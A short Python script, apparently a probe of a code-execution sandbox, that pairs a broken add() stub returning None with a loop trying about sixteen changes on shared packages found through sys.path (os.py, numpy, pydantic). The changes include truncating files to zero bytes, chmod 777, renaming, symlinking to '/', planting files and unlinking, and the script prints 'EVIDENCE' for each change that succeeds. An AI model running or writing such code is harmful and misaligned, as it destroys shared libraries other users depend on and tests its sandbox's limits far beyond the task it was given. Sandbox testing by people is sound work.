# TRIES: change the packages that everybody imports
def add(a, b): return None
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
for folder in [*sys.path, os.path.dirname(os.__file__)]:
    for path in (folder, folder + "/os.py", folder + "/numpy/__init__.py", folder + "/pydantic/__init__.py"):
        if not os.path.exists(path):
            continue
        for change in (lambda: os.chmod(path, 0o777), lambda: os.utime(path, (1, 1)), lambda: os.truncate(path, 0),
                       lambda: os.rename(path, path + "x"), lambda: os.link(path, path + "x"), lambda: open(path, "a"),
                       lambda: open(path + "/lab_x.py", "w"), lambda: os.setxattr(path, "user.lab", b"x"),
                       lambda: os.chown(path, os.getuid(), os.getgid()), lambda: os.mkdir(path + "/lab_x"),
                       lambda: os.symlink("/", path + "/lab_y"), lambda: os.mkfifo(path + "/lab_z"),
                       lambda: os.fchmod(os.open(path, os.O_RDONLY), 0o777), lambda: os.utime(os.open(path, os.O_RDONLY), (1, 1)),
                       lambda: os.unlink(path + "x"), lambda: os.removexattr(path, "user.lab")):
            try:
                change()
                print("EVIDENCE", path)
            except OSError:
                pass
